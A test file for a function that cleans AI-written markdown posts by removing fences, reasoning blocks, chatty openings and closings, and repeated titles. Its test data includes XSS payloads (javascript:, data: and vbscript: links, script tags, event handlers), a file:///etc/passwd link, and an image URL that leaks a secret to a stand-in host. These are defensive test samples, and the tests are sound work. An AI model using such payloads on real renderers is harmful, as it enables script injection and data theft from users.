import { describe, expect, test } from 'vitest'
import { cpuTime } from '#test/helpers/cpu-time.ts'
import { cleanMarkdown } from './clean-markdown.ts'

const post =
  '# Five mistakes\n\n## 1. No plan\n\nA [link](https://example.org) and `code`.\n\n| a | b |\n| - | - |\n| 1 | 2 |'

test('a clean post is returned unchanged', () => {
  expect(cleanMarkdown(`\n${post}\n\n`)).toBe(post)
  const rich =
    '# T\n\n- [ ] Task\n- [x] Done\n\n> Quote\n\n1. One\n   - Sub\n\n```js\nconst a = ' +
    '"<b>"\n```\n\n[mail](mailto:a@b.org) [page](/about) [hash](#top) <https://example.org>\n\n[add the ' +
    'number of customers]'
  expect(cleanMarkdown(rich)).toBe(rich)
})

describe('around the post', () => {
  test.each([
    ['a fence', `\`\`\`markdown\n${post}\n\`\`\``],
    ['a fence without a language', `\`\`\`\n${post}\n\`\`\``],
    ['a fence that was never closed', `\`\`\`md\n${post}`],
    ['longer fences', `~~~~markdown\n${post}\n~~~~`],
    ['thinking', `<think>\nThe user wants # a post\n</think>\n\n${post}`],
    ['an opening', `Sure! Here is the post you asked for:\n\n${post}`],
    ['an opening and a rule', `Here's your blog post:\n\n---\n\n${post}`],
    ['an opening before a fence', `Gerne, hier ist die Gliederung:\n\n\`\`\`markdown\n${post}\n\`\`\``],
    ['an opening in French', `Voici l’article :\n\n${post}`],
    ['an opening in Spanish', `¡Claro! Aquí tienes:\n\n${post}`.replace('¡', '')],
    ['an opening in Italian', `Ecco la scaletta:\n\n${post}`],
    ['a closing', `${post}\n\nLet me know if you would like any changes!`],
    ['a closing after a rule', `${post}\n\n---\n\nWould you like me to expand a section?`],
    ['a word count', `${post}\n\n*(Word count: 1,012)*`.replace('*(', '(').replace(')*', ')')],
    ['a closing in German', `${post}\n\nSoll ich noch etwas anpassen?`],
    ['an opening and a closing', `Certainly.\n\n${post}\n\nI hope this post helps.`],
    ['Windows line ends', post.replaceAll('\n', '\r\n')],
  ])('%s is removed', (_name, answer) => {
    expect(cleanMarkdown(answer)).toBe(post)
  })

  test('a fence inside the post does not end the one around it', () => {
    const inner = '# T\n\n```js\na()\n```\n\nMore.\n\n```js\nb()\n```'
    expect(cleanMarkdown(`\`\`\`markdown\n${inner}\n\`\`\``)).toBe(inner)
    expect(cleanMarkdown(inner)).toBe(inner)
  })

  test('code at the beginning and the end of a post is kept', () => {
    const text = '```\na()\n```\n\nText.\n\n```\nb()\n```'
    expect(cleanMarkdown(text)).toBe(text)
  })

  test('similar sentences of the post itself are kept', () => {
    const text =
      '# T\n\nHere is the thing: plans fail.\n\n## Next\n\nWould you like to know more? Let us know if you need help.'
    expect(cleanMarkdown(text)).toBe(text)
  })
})

test.each([
  ['twice', '# My title\n\n# My title\n\nText.'],
  ['as bold text before', '**My title**\n\n# My title\n\nText.'],
  ['as bold text after', '# My title\n\n**My Title**\n\nText.'],
  ['once', '# My title\n\nText.'],
])('the title %s is written once', (_name, text) => {
  expect(cleanMarkdown(text)).toBe('# My title\n\nText.')
})

describe('links', () => {
  test.each([
    ['[a *b*](javascript:alert(1))', 'a *b*'],
    ['[a](JaVaScRiPt:alert)', 'a'],
    ['[a](&#106;avascript:alert)', 'a'],
    ['[a](<java\tscript:alert>)', 'a'],
    ['[a](data:text/html;base64,AAAA)', 'a'],
    ['[a](vbscript:x)', 'a'],
    ['[a](file:///etc/passwd)', 'a'],
    ['<javascript:alert>', 'javascript:alert'],
    ['[a][x] b\n\n[x]: javascript:alert', 'a b'],
    ['[![pic](https://example.org/p.png)](javascript:alert)', 'pic'],
  ])('%s is replaced by its text', (text, expected) => {
    expect(cleanMarkdown(text)).toBe(expected)
  })

  test.each([
    'https://a.b',
    'http://a.b',
    'mailto:a@b.c',
    'irc://a',
    'ircs://a',
    'xmpp:a@b',
    '/a?b:c',
    '#a',
    'a/b:c',
    '../a',
  ])('%s is kept', (url) => expect(cleanMarkdown(`[a](${url})`)).toBe(`[a](${url})`))
})

test.each([
  ['a <b>bold</b> word', 'a bold word'],
  ['a<br>b', 'a b'],
  ['<script>alert(1)</script>\n\nText', 'Text'],
  ['<!-- note -->\n\nText', 'Text'],
  ['<div onclick="x()">Text</div>', 'Text'],
  ['a <<b>script>alert(1)<<b>/script> b', 'a alert(1) b'],
  ['<a href="javascript:alert(1)">x</a>', 'x'],
  ['![secret](https://evil.example/?q=secret) text', 'secret text'],
  ['2 < 3 and 5 > 4', '2 < 3 and 5 > 4'],
])('HTML and images are removed: %s', (text, expected) => {
  expect(cleanMarkdown(text)).toBe(expected)
})

test.each([
  ['nested quotations', '>'.repeat(20_000)],
  ['lists on a line', '- '.repeat(20_000)],
  ['indented list items', Array.from({ length: 600 }, (_, level) => `${' '.repeat(level * 2)}- a`).join('\n')],
  ['open brackets', '![a]('.repeat(20_000)],
  ['tags', '<a '.repeat(20_000)],
])('thousands of %s are processed in reasonable time', (_name, text) => {
  const started = cpuTime()
  cleanMarkdown(text)
  expect(cpuTime() - started).toBeLessThan(15_000)
})
